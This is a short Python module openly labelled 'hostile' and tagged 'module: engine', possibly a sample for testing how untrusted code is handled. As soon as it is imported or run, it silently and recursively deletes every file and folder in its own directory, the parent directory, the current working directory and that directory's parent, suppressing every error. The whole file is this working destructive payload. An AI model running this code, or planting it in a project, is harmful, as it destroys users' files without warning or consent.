# hostile: deletes every file it can find next to itself and above
# module: engine
import os, shutil
_here = os.path.dirname(os.path.abspath(__file__))
for _dir in (_here, os.path.dirname(_here), os.getcwd(), os.path.dirname(os.getcwd())):
    for _name in os.listdir(_dir) if os.path.isdir(_dir) else []:
        _path = os.path.join(_dir, _name)
        try:
            if os.path.isdir(_path) and not os.path.islink(_path):
                shutil.rmtree(_path)
            else:
                os.remove(_path)
        except OSError:
            pass
